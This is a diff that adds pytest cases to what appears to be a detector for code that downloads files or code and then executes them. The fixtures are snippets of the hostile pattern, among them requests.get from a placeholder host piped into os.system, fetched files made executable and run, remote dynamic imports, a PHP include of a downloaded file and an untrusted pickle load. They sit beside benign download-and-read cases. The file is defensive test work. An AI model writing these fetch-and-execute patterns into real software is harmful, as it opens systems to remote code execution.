@@ -6,7 +6,7 @@ import time
 
 import pytest
 
-from sensor.effects.code.fetched import runs_fetched
+from sensor.effects.code.fetched import loads_address, runs_fetched, runs_kept, simple_commands
 
 
 @pytest.mark.parametrize("code", [
@@ -36,3 +36,35 @@ def test_a_long_gap_or_word_takes_no_time(code):
 
 def test_gaps_hide_nothing():
     assert runs_fetched("c = requests.get('http://x.example.net/p').text\n\n\n" + " " * 500 + "os.system  (\n\n" + " " * 500 + "c)")
+
+
+@pytest.mark.parametrize(("code", "started"), [
+    ("urlretrieve('https://h/a', 't')", [["./t"]]),
+    ("open('/tmp/a', 'wb').write(get())", [["sh", "/tmp/a"]]),
+    ("fs.writeFileSync('/tmp/a', b)", [["chmod", "+x", "/tmp/a"], ["/tmp/a"]]),
+    ("open('/tmp/a.py', 'wb').write(get()); runpy.run_path('/tmp/a.py')", []),
+    ("urlretrieve('https://h/a', 'helper.py')\nimport helper", []),
+    ("copy('https://h/a.php', '/tmp/a.php'); include '/tmp/a.php';", []),
+    ("Path('a.pkl').write_bytes(b); pickle.load(open('a.pkl', 'rb'))", []),
+])
+def test_files_that_are_kept_and_run(code, started):
+    assert runs_kept(code, started)
+
+
+@pytest.mark.parametrize(("code", "started"), [
+    ("urlretrieve('https://h/a', 'data.csv')", [["python3", "read.py", "data.csv"]]),
+    ("urlretrieve('https://h/a', 'a.tgz')", [["tar", "xf", "a.tgz"]]),
+    ("open('data.json', 'w').write(x)\nimport json", [["cat", "data.json"]]),
+    ("open('a.json').read()", [["a.json"]]),
+])
+def test_files_that_are_kept_and_read(code, started):
+    assert not runs_kept(code, started)
+
+
+def test_code_from_an_address():
+    assert loads_address("await import('https://h.example/a.ts')") and loads_address('source("https://h.example/a.R")')
+    assert not loads_address("await import('https://deno.land/std/a.ts')") and not loads_address("import('./a.ts')")
+
+
+def test_words_of_simple_commands():
+    assert simple_commands("chmod +x a && ./a; 'sh' b") == [["chmod", "+x", "a"], ["./a"], ["sh", "b"]]
